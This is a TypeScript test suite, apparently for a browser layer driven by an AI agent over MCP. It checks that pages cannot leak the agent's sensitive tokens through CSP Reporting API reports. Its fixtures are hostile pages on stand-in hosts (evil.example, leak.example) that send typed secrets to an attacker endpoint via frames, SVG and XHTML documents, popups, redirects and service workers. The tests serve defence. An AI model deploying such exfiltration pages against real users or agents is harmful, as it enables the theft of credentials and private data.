// Attacks on the user's Chrome (shared mode), neighbours of userChromeReportsCarryNothing: the agent's documents lose
// their Reporting-Endpoints (and Report-To, NEL, Speculation-Rules) at the tab hook's response stage
// (browser/documentResponses.ts), answered anew with Fetch.fulfillRequest. The response-stage pattern is
// `resourceType: 'Document'` only, on each agent tab's session and each out-of-process frame's session. Here:
// documents reached other ways (frames, popups, redirects, error statuses, non-HTML documents, a service worker's
// answer), and whether a rewritten page still works as a page. A popup's first document is answered at the
// browser-wide gate's response stage (browser/browserFetchGate.ts), before any hook of its own watches it; the agent's
// tabs and frames bypass service workers (a document one answers reaches no response stage).
// Invariant: after a sensitive read, nothing the browser sends on a page's behalf carries data to another host.
// Each report has its own endpoint (`/nr?from=<case>`): a report one test let out is not counted against the next.
// Measured on Chromium 156: every case here reports with the headers left in. Not kept: dedicated and service workers
// whose script response carries the headers (they send nothing even left in, in a plain Chrome too); shared workers
// (the test Chrome runs with --disable-shared-workers).

import assert from 'node:assert/strict';
import type { ServerResponse } from 'node:http';
import { after, before, describe, test } from 'node:test';
import { type Fixture, html, startFixture } from '../helpers/fixtureServer.ts';
import type { InProcessMcp } from '../helpers/inProcessMcp.ts';
import { refOf } from '../helpers/mcpClient.ts';
import { token, userChromeRig } from '../helpers/userChromeRig.ts';
import { waitFor } from '../helpers/waitFor.ts';

describe('reports set up by response headers outside the top document carry nothing from the agent’s tabs', () => {
  const rig = userChromeRig();
  const { shown, quietly, agent, readTokens } = rig;
  let site: Fixture;
  const url = (host: string, path: string) => site.url(host, path);
  const endpoint = (from: string) => url('leak.example', `/nr?from=${from}`);
  /** The headers that make a CSP violation a Reporting API report to the attacker's endpoint. */
  const reporting = (from: string, directive = "img-src 'self'") => ({
    'content-security-policy': `${directive}; report-to r`,
    'reporting-endpoints': `r="${endpoint(from)}"`,
  });
  /** In page script: what is handed to `send(v)` is put in the address of an image that the CSP blocks. */
  const blockedImage = `(v) => { const img = new Image(); img.src = 'https://blocked.example:' + location.port + '/pixel?d=' + encodeURIComponent(v); document.documentElement.append(img) }`;
  /** A page with a Note field: what the agent types there is handed to `send(value)`. */
  const notePage = (send: string, before = '') =>
    `<title>Notes</title><body>${before}<label>Note <input id=note></label><script>
    const send = ${send};
    document.getElementById('note').addEventListener('input', (e) => { if (e.target.value.length > 10) send(e.target.value) });</script>`;
  /** A page whose CSP blocks an image: a Note of its own, and what its opener or parent posts it goes the same way. */
  const reporter = () =>
    notePage(
      blockedImage,
      `<script>addEventListener('message', (e) => { if (typeof e.data === 'string' && e.data.length > 10) (${blockedImage})(e.data) }); if (opener) opener.postMessage('ready', '*'); if (parent !== self) parent.postMessage('ready', '*')</script>`,
    );
  const from = (req: { url?: string | undefined }) =>
    new URL(req.url ?? '', 'http://x').searchParams.get('from') ?? 'x';
  const js = (res: ServerResponse, body: string, headers: Record<string, string> = {}): void => {
    res.writeHead(200, { 'content-type': 'text/javascript', ...headers }).end(body);
  };
  before(async () => {
    site = await startFixture(
      {
        'OPTIONS /nr': (_req, _body, res) =>
          void res
            .writeHead(204, {
              'access-control-allow-origin': '*',
              'access-control-allow-methods': 'POST',
              'access-control-allow-headers': '*',
            })
            .end(),
        '/nr': (_req, _body, res) => void res.writeHead(204).end(),
        // A document with the headers; `code` its status.
        '/nb/reporter': (req, _body, res) =>
          html(
            res,
            reporter(),
            Number(new URL(req.url ?? '', 'http://x').searchParams.get('code') ?? 200),
            reporting(from(req)),
          ),
        '/nb/302': (req, _body, res) =>
          void res.writeHead(302, { location: `/nb/reporter?from=${from(req)}` }).end(),
        // A chain of redirects across sites, ending on the reporting page.
        '/nb/chain': (req, _body, res) =>
          void res.writeHead(307, { location: url('other.example', `/nb/302?from=${from(req)}`) }).end(),
        // The Note in the parent; what is typed is posted to its frame, which reports it.
        '/nb/frame-parent': (req, _body, res) => {
          const kind = from(req);
          const src =
            kind === 'xframe'
              ? url('frame.example', `/nb/reporter?from=${kind}`)
              : kind === 'svgframe'
                ? `/nb/svg?from=${kind}`
                : `/nb/reporter?from=${kind}`;
          html(
            res,
            notePage(
              `(v) => frames[0].postMessage(v, '*')`,
              `<script>addEventListener('message', (e) => { if (e.data === 'ready') fetch('/nb/frame-ready?${kind}') })</script><iframe src="${src}"></iframe>`,
            ),
          );
        },
        '/nb/svg': (req, _body, res) =>
          void res
            .writeHead(200, {
              'content-type': 'image/svg+xml',
              ...reporting(from(req), "connect-src 'self'"),
            })
            .end(
              `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>addEventListener('message', (e) => fetch('https://blocked.example:' + location.port + '/spixel?d=' + encodeURIComponent(e.data)).catch(() => {})); parent.postMessage('ready', '*')</script></svg>`,
            ),
        // An XHTML (XML) document with a Note field of its own.
        '/nb/xhtml': (req, _body, res) =>
          void res.writeHead(200, { 'content-type': 'application/xhtml+xml', ...reporting(from(req)) }).end(
            `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Notes</title></head><body><label>Note <input id="note"/></label><script>//<![CDATA[
              const send = ${blockedImage};
              document.getElementById('note').addEventListener('input', (e) => { if (e.target.value.length > 10) send(e.target.value) });
              //]]></script></body></html>`,
          ),
        // Workers: the page hands what is typed to a worker whose script response carries the headers.
        '/nb/popup-opener': (_req, _body, res) =>
          html(
            res,
            notePage(
              `(v) => new BroadcastChannel('nb').postMessage(v)`,
              `<a href="/nb/popup-page" target="_blank">Open help</a>`,
            ),
          ),
        '/nb/popup-page': (_req, _body, res) =>
          html(
            res,
            `<title>Help</title><p>help</p><script>new BroadcastChannel('nb').onmessage = (e) => (${blockedImage})(e.data); fetch('/nb/popup-ready')</script>`,
            200,
            reporting('popup'),
          ),
        // A service worker of the agent's site answers the site's pages itself, with the headers.
        '/nbsw/install': (_req, _body, res) =>
          html(
            res,
            `<title>install</title><p>install</p><script>navigator.serviceWorker.register('/nbsw/sw.js', { scope: '/nbsw/' }).then(() => navigator.serviceWorker.ready).then(() => fetch('/nbsw/ready')).catch((e) => fetch('/nb/err?' + encodeURIComponent(e)))</script>`,
          ),
        // Served by the site, passed on as it is by the service worker (respondWith(fetch(request))).
        '/nbsw/proxied': (_req, _body, res) => html(res, reporter(), 200, reporting('swproxied')),
        '/nbsw/sw.js': (_req, _body, res) =>
          js(
            res,
            `self.addEventListener('install', () => self.skipWaiting());
             self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
             self.addEventListener('fetch', (e) => { const path = new URL(e.request.url).pathname;
               if (path === '/nbsw/proxied') e.respondWith(fetch(e.request));
               if (path === '/nbsw/page') e.respondWith(new Response(${JSON.stringify(notePage(blockedImage))}, { headers: { 'content-type': 'text/html; charset=utf-8', ...${JSON.stringify(reporting('swpage'))} } })) });`,
          ),
        // --- does the rewritten page still work as a page ---
        '/nb/cookie': (_req, _body, res) =>
          void res
            .writeHead(200, {
              'content-type': 'text/html; charset=utf-8',
              'set-cookie': [
                'nb_seen=yes; Secure; SameSite=Lax; Path=/',
                'nb_http=only; Secure; HttpOnly; SameSite=Lax; Path=/',
              ] as unknown as string,
              ...reporting('cookie'),
            })
            .end('<title>cookie</title><p>cookie</p>'),
        '/nb/echo': (_req, _body, res) => html(res, '<title>echo</title>'),
        '/nb/large': (_req, _body, res) =>
          html(
            res,
            `<title>large</title><p>${'x'.repeat(3 << 20)}</p><p id=end>end</p>`,
            200,
            reporting('large'),
          ),
        '/nb/latin1': (_req, _body, res) =>
          void res
            .writeHead(200, { 'content-type': 'text/html; charset=windows-1252', ...reporting('latin1') })
            .end(Buffer.from('<title>caf\xe9</title><p>na\xefve</p>', 'latin1')),
      },
      { tls: true },
    );
  });
  after(async () => {
    await site?.close();
  });

  const reportWaitMs = Number(process.env.REPORT_WAIT_MS ?? 5_000);
  /** Reports that reached the attacker's endpoint for `from` with the token in them. */
  const leaked = (kind: string) =>
    site.seen.filter((r) => r.path === `/nr?from=${kind}` && (r.body + r.path).includes(token));
  /** Everything that reached the endpoint for `from` (to tell "blocked" from "never sent"). */
  const reached = (kind: string) => site.seen.filter((r) => r.path === `/nr?from=${kind}`);

  /** Opens the agent's page, lets `ready` happen, reads the tokens, then types the token into the page's Note. */
  async function typeTokenInto(
    agentMcp: InProcessMcp,
    path: string,
    ready?: string,
    host = 'evil.example',
  ): Promise<string> {
    const opened = await agentMcp.call('new_page', { url: url(host, path) });
    assert.equal(opened.isError, false, opened.text);
    const tab = /Tab (p\d+)/.exec(opened.text)?.[1] ?? '';
    if (ready)
      await waitFor(`${ready} arrives`, () => site.seen.some((r) => r.path.startsWith(ready)), {
        timeoutMs: 15_000,
      });
    await readTokens(agentMcp);
    await agentMcp.call('select_page', { pageId: tab });
    const snapshot = await agentMcp.call('take_snapshot');
    return (await agentMcp.call('fill', { ref: refOf(snapshot.text, 'Note'), value: token })).text;
  }

  /**
   * Reports are delivered in batches: the first at once, the next ones up to a minute later (measured on Chromium
   * 156: ages of 47 to 57 s). Each case has an endpoint of its own, so its report is the first of its batch: a few
   * seconds see it (every case here failed within them with the headers left in). REPORT_WAIT_MS waits longer.
   */
  async function noReport(kind: string, agentMcp?: InProcessMcp): Promise<void> {
    await waitFor('a report', () => leaked(kind).length > 0, { timeoutMs: reportWaitMs }).catch(
      () => undefined,
    );
    await quietly(500);
    const title = agentMcp
      ? (await agentMcp.call('evaluate_script', { function: '() => document.title' })).text
      : '';
    assert.deepEqual(
      shown(leaked(kind)),
      '',
      `everything at the endpoint:\n${shown(reached(kind))}\n${title}`,
    );
  }

  for (const [name, path, ready, kind] of [
    [
      'a cross-site (out-of-process) frame',
      '/nb/frame-parent?from=xframe',
      '/nb/frame-ready?xframe',
      'xframe',
    ],
    ['a same-origin frame', '/nb/frame-parent?from=sameframe', '/nb/frame-ready?sameframe', 'sameframe'],
    [
      'a same-origin SVG document frame',
      '/nb/frame-parent?from=svgframe',
      '/nb/frame-ready?svgframe',
      'svgframe',
    ],
    ['a page reached through redirects across sites', '/nb/chain?from=redirect', undefined, 'redirect'],
    ['a page answered 404', '/nb/reporter?from=status404&code=404', undefined, 'status404'],
    ['a page answered 500', '/nb/reporter?from=status500&code=500', undefined, 'status500'],
    ['an XHTML (XML) page', '/nb/xhtml?from=xhtml', undefined, 'xhtml'],
  ] as const)
    test(`after a sensitive read, a report set up by ${name}'s response headers carries nothing to another host`, async () => {
      const agentMcp = await agent();
      await typeTokenInto(agentMcp, path, ready);
      await noReport(kind, agentMcp);
    });

  // The document never reaches the tab's response stage: a service worker's answer to a navigation comes from the
  // worker, not the network, and the worker's own fetch (passed on as it is) is a 'Fetch' of the worker's target,
  // judged at the browser-wide gate's request stage only. Its Reporting-Endpoints stay in effect.
  for (const [name, path, kind] of [
    ['a page its service worker makes up', '/nbsw/page', 'swpage'],
    ['a page its service worker passes on from the network', '/nbsw/proxied', 'swproxied'],
  ] as const)
    test(`after a sensitive read, a report set up by ${name} carries nothing to another host`, async () => {
      const agentMcp = await agent();
      assert.equal(
        (await agentMcp.call('new_page', { url: url('evil.example', '/nbsw/install') })).isError,
        false,
      );
      await waitFor('the service worker is ready', () => site.seen.some((r) => r.path === '/nbsw/ready'), {
        timeoutMs: 15_000,
      });
      if (kind === 'swpage') {
        // The agent's tabs bypass service workers: the network answers, which has no such page (before, the worker's
        // page came, its headers in effect, and reported what was typed into it).
        await readTokens(agentMcp);
        const opened = await agentMcp.call('new_page', { url: url('evil.example', path), snapshot: true });
        assert.match(opened.text, /Not found/, opened.text);
        assert.doesNotMatch(opened.text, /Note/, opened.text);
      } else await typeTokenInto(agentMcp, path);
      await noReport(kind, agentMcp);
    });

  // In the user's Chrome the agent's tabs are watched one by one (page routes, a CDP session each): a popup's first
  // document loads before tabward has a session on it, seen only by the browser-wide gate, at the request stage. No
  // response stage pauses it, and its Reporting-Endpoints stay in effect for as long as the popup shows it.
  test('after a sensitive read, a report set up by a popup’s response headers carries nothing to another host', async () => {
    const agentMcp = await agent();
    const opened = await agentMcp.call('new_page', { url: url('evil.example', '/nb/popup-opener') });
    assert.equal(opened.isError, false, opened.text);
    const tab = /Tab (p\d+)/.exec(opened.text)?.[1] ?? '';
    const clicked = await agentMcp.call('click', {
      ref: refOf((await agentMcp.call('take_snapshot')).text, 'Open help'),
    });
    assert.equal(clicked.isError, false, clicked.text);
    await waitFor('the popup is ready', () => site.seen.some((r) => r.path === '/nb/popup-ready'), {
      timeoutMs: 15_000,
    }).catch(async (error) => {
      const pages = (await agentMcp.call('list_pages')).text;
      throw new Error(
        `${error}\nclicked: ${clicked.text}\npages: ${pages}\nseen: ${shown(site.seen.slice(-10))}`,
      );
    });
    await readTokens(agentMcp);
    await agentMcp.call('select_page', { pageId: tab });
    const snapshot = await agentMcp.call('take_snapshot');
    await agentMcp.call('fill', { ref: refOf(snapshot.text, 'Note'), value: token });
    await noReport('popup');
  });

  // The rewritten document is the page as its server sent it, less those headers.
  test('a document answered without its reporting headers keeps its cookies, status, size and charset', async () => {
    // Measured: answering an 8 MB document anew took 15 s here (its body read in 0.7 s); 3 MB keeps it short.
    const agentMcp = await agent();
    const evaluate = async (fn: string) => (await agentMcp.call('evaluate_script', { function: fn })).text;

    assert.equal(
      (await agentMcp.call('new_page', { url: url('evil.example', '/nb/cookie') })).isError,
      false,
    );
    assert.match(await evaluate('() => document.cookie'), /nb_seen=yes/);
    await evaluate(`() => fetch('/nb/echo?cookie').then((r) => r.status)`);
    const echoed = site.seen.filter((r) => r.path === '/nb/echo?cookie');
    assert.match(shown(echoed), /nb_http=only/, 'the HttpOnly cookie set by the rewritten response');

    await agentMcp.call('new_page', { url: url('evil.example', '/nb/reporter?from=status&code=404') });
    assert.match(
      await evaluate(`() => performance.getEntriesByType('navigation')[0].responseStatus`),
      /\b404\b/,
    );

    await agentMcp.call('new_page', { url: url('evil.example', '/nb/large') });
    // Read whole before it is answered, then parsed: under load its last element came after new_page returned.
    await waitFor('the 3 MB page to its last element', async () =>
      /end/.test(await evaluate(`() => document.getElementById('end')?.textContent`)),
    );

    await agentMcp.call('new_page', { url: url('evil.example', '/nb/latin1') });
    assert.match(await evaluate(`() => document.title + ' ' + document.body.textContent`), /café naïve/);
  });
});
